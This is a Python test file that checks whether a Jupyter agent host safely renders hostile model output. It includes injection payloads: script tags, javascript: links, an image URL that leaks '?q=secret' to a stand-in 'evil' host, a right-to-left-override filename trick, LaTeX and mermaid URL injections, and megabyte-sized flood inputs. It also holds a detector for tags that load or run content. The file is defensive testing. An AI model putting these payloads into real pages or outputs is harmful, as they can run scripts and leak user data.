"""A model that means harm: its names, arguments, words and floods against the run, the page and the saved notebook."""

from __future__ import annotations

import json
import re
import time
from html.parser import HTMLParser
from typing import TYPE_CHECKING, Any

import nbformat
import pytest
from langchain_core.messages import AIMessage
from mcp.server.mcpserver import MCPServer

from mcp_magic._host import Host
from tests.support.markup import SAFE_ATTRIBUTES, SAFE_TAGS, Markup
from tests.support.threads_in import kept, run

if TYPE_CHECKING:
    from collections.abc import AsyncIterator
    from pathlib import Path

EVIL = (
    "<script>alert(1)</script><img src=http://127.0.0.1:9/evil.png>\n\x1b[31mred\x1b]8;;http://127.0.0.1:9/evil\x07link"
    "\u202egnp.exe ![](http://127.0.0.1:9/evil.png?q=secret) [go](javascript:alert(1)) <http://127.0.0.1:9/evil>\n\n"
    "$\\href{javascript:alert(1)}{x}$ \\(\\style{background:url(http://127.0.0.1:9/evil.gif)}{y}\\)\n\n"
    '```mermaid\nflowchart LR\n  A@{ img: "http://127.0.0.1:9/evil.png" }\n```\n\n[r]: http://127.0.0.1:9/evil\n'
)
DEEP: Any = []
for _ in range(400):
    DEEP = [DEEP]


def call(number: int = 1, name: str = "shop__buy", **arguments: Any) -> dict[str, Any]:
    return {"name": name, "args": arguments or {"item": "pear"}, "id": f"call_{number}", "type": "tool_call"}


INVALID = {"name": EVIL, "args": "{" + EVIL, "id": "x", "error": EVIL, "type": "invalid_tool_call"}
BLOCKS = [
    {"type": "thinking", "thinking": EVIL},
    {"type": "reasoning", "reasoning": EVIL},
    {"type": "image_url", "image_url": {"url": "http://127.0.0.1:9/evil.png"}},
    {"type": "image", "url": "http://127.0.0.1:9/evil.png"},
    {"type": "image", "base64": "<script>", "mime_type": "image/svg+xml"},
    {"type": "<b>", "x": EVIL},
    {"type": "text", "text": EVIL},
]
TURNS: dict[str, Any] = {
    "words": EVIL,
    "blocks": AIMessage(BLOCKS),
    "a name that is markup": AIMessage("", tool_calls=[call(name=EVIL)]),
    "a name of 2 MB": AIMessage("", tool_calls=[call(name="a" * 2_000_000)]),
    "an argument of 2 MB": AIMessage("", tool_calls=[call(item="<" * 2_000_000)]),
    "2,000 arguments": AIMessage("", tool_calls=[call(**{f"{EVIL}{number}": number for number in range(2000)})]),
    "an argument that is markup": AIMessage("", tool_calls=[call(item=EVIL)]),
    "an argument of the wrong type": AIMessage("", tool_calls=[call(item=[{"a": EVIL}])]),
    "an argument 400 levels deep": AIMessage("", tool_calls=[call(item=DEEP)]),
    "half an emoji": AIMessage("\ud83d", tool_calls=[call(item="\ud83d")]),
    "arguments that are no JSON": AIMessage("", invalid_tool_calls=[INVALID]),
    "an id of 2 MB": AIMessage("", tool_calls=[{**call(), "id": EVIL * 3000}]),
    "the same id thrice": AIMessage("", tool_calls=[call(), call(), call()]),
    "no id": AIMessage("", tool_calls=[{**call(), "id": None}, {**call(), "id": ""}]),
    "2,000 unknown tools": AIMessage("", tool_calls=[call(number, f"nope{number}") for number in range(2000)]),
    "long integers": AIMessage("", tool_calls=[call(name="shop__tag", names=["9" * 30] * 2000, count="many")]),
    "2 MB of brackets": "[" * 2_000_000,
}


@pytest.fixture
async def host() -> AsyncIterator[Host]:
    server = MCPServer("shop", log_level="ERROR")

    @server.tool()
    def buy(item: str) -> str:
        """Buys an item."""
        return "bought"

    @server.tool()
    def tag(names: list[str], count: int) -> str:
        """Tags items."""
        return "tagged"

    async with Host() as host:
        await host.connect(server, name="shop")
        yield host


@pytest.mark.parametrize("name", TURNS)
async def test_run_goes_on_is_kept_and_shows_no_model_markup(host: Host, tmp_path: Path, name: str) -> None:
    began = time.thread_time()
    made, problem = await run(host, tmp_path / "threads.sqlite", [TURNS[name], "done"], approve="auto")
    if TURNS[name] is EVIL or name in ("blocks", "2 MB of brackets"):
        assert len(made.messages) == 2
    else:
        assert made.answer == "done"
    assert problem == ""
    shown: Any = made._repr_mimebundle_()
    assert time.thread_time() - began < 5
    assert len(await kept(tmp_path / "threads.sqlite")) == len(made.messages)
    assert set(shown) == {"text/plain", "text/html"}
    assert len(json.dumps(shown)) < 450_000
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e\ud83d]", shown["text/plain"] + shown["text/html"])
    markup = Markup(shown["text/html"])
    assert markup.tags <= SAFE_TAGS | {"strong", "em", "h4", "h5", "h6", "ol", "blockquote", "hr", "s"}
    assert markup.attributes <= SAFE_ATTRIBUTES
    assert all(re.match("https?://|data:image/png;", url) for url in markup.urls)
    assert Loads(shown["text/html"]).found == []


LOADING = ("script", "iframe", "object", "embed", "link", "svg", "form", "base", "meta")


class Loads(HTMLParser):
    """What makes a browser fetch something, or run a script, when it shows a page."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[str] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        known = dict(attributes)
        loads = {"src", "srcset", "poster", "background", "data", "action", "xlink:href"} & known.keys()
        drawn = "url(" in (known.get("style") or "") or any(name.startswith("on") for name in known)
        runs = (known.get("href") or "").lower().startswith(("javascript:", "data:", "file:"))
        if (
            loads
            or drawn
            or runs
            or tag in ("script", "iframe", "object", "embed", "link", "svg", "form", "base", "meta")
        ):
            self.found.append(str(self.get_starttag_text()))


async def test_nbconvert_page_fetches_nothing_of_the_model(host: Host) -> None:
    from nbconvert import HTMLExporter

    outputs = []
    for name in (
        "words",
        "blocks",
        "a name that is markup",
        "an argument that is markup",
        "arguments that are no JSON",
    ):
        made, _ = await run(host, ":memory:", [TURNS[name], EVIL], thread=name, approve="auto")
        outputs.append(nbformat.v4.new_output("display_data", data=made._repr_mimebundle_()))

    def page(outputs: list[Any]) -> str:
        cell = nbformat.v4.new_code_cell("%%mcp_agent", outputs=outputs)
        html, _ = HTMLExporter().from_notebook_node(nbformat.v4.new_notebook(cells=[cell]))
        return str(html)

    assert Loads(page(outputs)).found == Loads(page([])).found
    assert "127.0.0.1:9/evil" in page(outputs)
    assert "tex2jax_ignore" in page(outputs)
